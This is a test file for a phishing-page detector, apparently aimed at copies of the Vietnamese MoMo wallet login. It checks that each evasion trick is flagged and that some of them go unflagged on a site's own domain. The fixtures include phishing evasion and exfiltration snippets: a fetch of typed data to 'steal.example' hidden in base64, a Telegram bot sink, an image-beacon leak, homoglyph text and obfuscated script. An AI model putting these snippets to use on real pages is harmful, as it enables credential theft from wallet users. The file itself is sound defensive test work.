import { describe, expect, test } from "vitest";
import { isAsking } from "../../../../src/core/evidence/is-asking.ts";
import type { PageFacts } from "../../../../src/core/evidence/page-facts.ts";
import { field, page, verdictOn } from "./pages.ts";

const PASSWORD = field("Mật khẩu", { type: "password" });
const USER = field("Tên đăng nhập");
const packed = (markup: string) => `document.write(atob("${btoa(markup)}"))`;
const FORM =
  "<form><h2>Log in</h2><input name=user placeholder=User><label>Password<input name=pass type=password></label><label>OTP<input name=otp></label></form>";

/** A wallet's log-in page on a host that says nothing: a borrowed name and an ask, two families of evidence. */
const COPY: Partial<PageFacts> = {
  title: "MoMo",
  banner: "MoMo",
  marks: [{ text: "MoMo", linksTo: "" }],
  fields: [USER, PASSWORD],
};
/** A house of its own name, with the same log-in. */
const OWN: Partial<PageFacts> = {
  title: "Hoa Đá – Đăng nhập",
  banner: "Hoa Đá",
  marks: [{ text: "Hoa Đá", linksTo: "" }],
  fields: [USER, PASSWORD],
};

/** Ways of hiding, each with the feature that it leaves, as a page that uses it shows it. */
const EVASIONS: readonly [string, string, (page: Partial<PageFacts>) => Partial<PageFacts>][] = [
  [
    "a password field that is text with dots drawn by a style",
    "conceal:masked-text",
    (p) => ({ ...p, fields: [USER, field("Mật khẩu", { masked: true })] }),
  ],
  [
    "a password field whose letters a script replaces by dots",
    "conceal:masked-text",
    (p) => ({ ...p, script: "x.oninput=()=>{v+=x.value;x.value=x.value.replace(/./g,'•')}" }),
  ],
  [
    "words broken up by characters of no width",
    "conceal:split-words",
    (p) => ({ ...p, text: "Đă\u200bng nh\u200bập tà\u200bi kho\u200bản củ\u200ba bạn" }),
  ],
  [
    "Cyrillic letters among Latin ones",
    "conceal:odd-letters",
    (p) => ({ ...p, text: "Xác thựс tài khоản đăng nhậр" }),
  ],
  [
    "letters from the mathematical alphabets",
    "conceal:odd-letters",
    (p) => ({ ...p, text: "𝗫𝗮́𝗰 𝘁𝗵𝘂̛̣𝗰 tài khoản 𝗻𝗴𝗮𝘆" }),
  ],
  [
    "a form in a closed shadow tree",
    "conceal:closed-shadow",
    (p) => ({ ...p, fieldsOnlyIn: "closed-shadow" }),
  ],
  [
    "a form behind hundreds of fields that nobody sees",
    "conceal:flooded-fields",
    (p) => ({ ...p, unseenBefore: 201 }),
  ],
  [
    "a form in a frame without an address",
    "conceal:nested-frame",
    (p) => ({ ...p, fieldsOnlyIn: "frame" }),
  ],
  [
    "a form packed in base64",
    "conceal:packed-form",
    (p) => ({ ...p, fields: [], script: packed(FORM) }),
  ],
  [
    "a script in escapes and underscored names",
    "conceal:packed-form",
    (p) => ({ ...p, script: "var _0x3fa1=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f'];" }),
  ],
  [
    "a check for robots before the content, of no known provider",
    "conceal:fake-check",
    (p) => ({ ...p, text: "Tôi không phải là người máy" }),
  ],
  [
    "words drawn on a canvas",
    "conceal:words-as-picture",
    (p) => ({ ...p, script: "c.fillText('Đăng nhập để nhận tiền về ví',10,20)" }),
  ],
  [
    "words drawn in a picture",
    "conceal:words-as-picture",
    (p) => ({
      ...p,
      drawn: "Đăng nhập để nhận tiền thưởng về ví của bạn trong hôm nay nhé các bạn",
    }),
  ],
  [
    "right click, selection and keys switched off",
    "conceal:keys-blocked",
    (p) => ({ ...p, script: "oncontextmenu=return false" }),
  ],
  [
    "a page that fills the screen and asks before it is left",
    "conceal:no-way-out",
    (p) => ({ ...p, script: "b.requestFullscreen();onbeforeunload=()=>1" }),
  ],
  [
    "what is typed goes to a bot",
    "sink:telegram",
    (p) => ({ ...p, script: "fetch('https://api.tele'+'gram.org/bot'+t+'/sendMessage')" }),
  ],
  [
    "what is typed goes to an address that base64 hides",
    "sink:other-site",
    (p) => ({ ...p, script: `fetch(atob("${btoa("https://steal.example/in.php")}"),{body:v})` }),
  ],
  [
    "what is typed goes to another site, whose answer a hidden frame swallows",
    "sink:other-site",
    (p) => ({ ...p, forms: [{ action: "https://nhan-tin.example.net/x.php", around: "" }] }),
  ],
  [
    "threats without diacritics",
    "text:threat",
    (p) => ({ ...p, text: "Tai khoan cua quy khach se bi khoa vinh vien" }),
  ],
  [
    "what is typed goes into a sheet",
    "sink:form-service",
    (p) => ({ ...p, forms: [{ action: "https://script.google.com/macros/s/x/exec", around: "" }] }),
  ],
  [
    "what is typed goes out as a picture's address",
    "sink:image-address",
    (p) => ({ ...p, script: "fetch;new Image().src='/p.gif?d='+btoa(u.value)" }),
  ],
  [
    "what is typed goes to a bare address",
    "sink:bare-ip",
    (p) => ({ ...p, forms: [{ action: "http://203.0.113.9/x.php", around: "" }] }),
  ],
];

describe("a copied log-in is blocked whatever hides it", () => {
  test.each(EVASIONS)("%s", (_, feature, hide) => {
    const facts = page("https://qx81.example.com/", hide(COPY));
    expect(isAsking(facts)).toBe(true);
    const verdict = verdictOn(facts);
    expect(verdict.features).toContain(feature);
    expect(verdict).toMatchObject({ level: "block", brand: "MoMo" });
  });
});

/** Some ways have honest reasons; a house of its own name may use them. */
describe("the same ways under a site's own name accuse nobody", () => {
  const honest = /closed-shadow|nested-frame|keys-blocked|image-address|words-as-picture/;
  const some = EVASIONS.filter(([, feature]) => honest.test(feature));
  test.each(some)("%s", (_, feature, hide) => {
    const verdict = verdictOn(page("https://hoada.example.com/", hide(OWN)));
    expect(verdict.features).toContain(feature);
    expect(verdict.level).toBe("none");
  });
});

test("a real check for robots is no trick", () => {
  const facts = {
    ...OWN,
    text: "Tôi không phải là người máy",
    script: "// from www.google.com\ngrecaptcha",
  };
  const { features } = verdictOn(page("https://hoada.example.com/", facts));
  expect(features).not.toContain("conceal:fake-check");
});

test("a form that only scripts will write is judged by what they write", () => {
  const script = `go.onclick=()=>{document.title='Ví MoMo';m.innerHTML='${FORM}'}`;
  const verdict = verdictOn(
    page("https://qx81.example.com/", { banner: "MoMo", title: "Xin chờ", script }),
  );
  expect(verdict).toMatchObject({ brand: "MoMo", level: "warn" });
});

test("a guest's gate in the same network is no sink", () => {
  const forms = [{ action: "http://10.5.50.1/login", around: "" }];
  const { features } = verdictOn(page("https://wifi.example.com/", { ...OWN, forms }));
  expect(features).not.toContain("sink:bare-ip");
});
